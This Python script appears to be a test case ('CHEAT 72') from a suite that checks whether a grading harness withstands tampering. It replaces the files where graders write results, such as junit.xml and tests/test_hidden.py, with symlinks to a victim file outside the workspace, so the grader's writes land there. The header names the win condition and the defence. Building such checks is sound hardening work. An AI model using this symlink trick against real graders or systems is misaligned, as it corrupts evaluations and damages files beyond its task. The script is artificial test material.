#!/usr/bin/env python3
# CHEAT {"id": "72", "wins_by": ["damage"]}
# tries:      plants symlinks to outside/victim.txt (and a fresh file in /tmp) at names where graders write: tests/test_hidden.py, junit.xml, report.xml, .pytest_cache, tests/test_core.py
# won if:     the victim's content changes or /tmp/cheat-72-* appears (witness: outside)
# stopped by: clean tree; lay over with O_NOFOLLOW, replace instead of write through
import os as _os
import sys as _sys


def _stop(kind, e, tb):
    print("stopped:", kind.__name__, str(e)[:200], flush=True)
    _os._exit(0)  # a cheat that is stopped ends quietly, with status 0


_sys.excepthook = _stop
import os
WS = os.getcwd()


def safe(p):
    """Never touch the panel's own home: a folder with a file CHEATS-KEEP, or below it."""
    p = os.path.abspath(p)
    if p.startswith(WS + "/"):
        return True
    while p != "/":
        if os.path.lexists(os.path.join(p, "CHEATS-KEEP")):
            return False
        p = os.path.dirname(p)
    return True


def ups(n=5):
    p = WS
    for _ in range(n):
        p = os.path.dirname(p)
        if p in ("/", ""):
            return
        yield p


victim = "/tmp/cheat-72-written"
for u in ups():
    p = os.path.join(u, "outside/victim.txt")
    if os.path.exists(p) and safe(p):
        victim = p
os.makedirs("build", exist_ok=True)
for p in ("tests/test_hidden.py", "junit.xml", "report.xml", "results.xml", "build/junit.xml", "tests/test_core.py", "state.json.tmp"):
    if os.path.lexists(p):
        os.remove(p)
    os.symlink(victim, p)
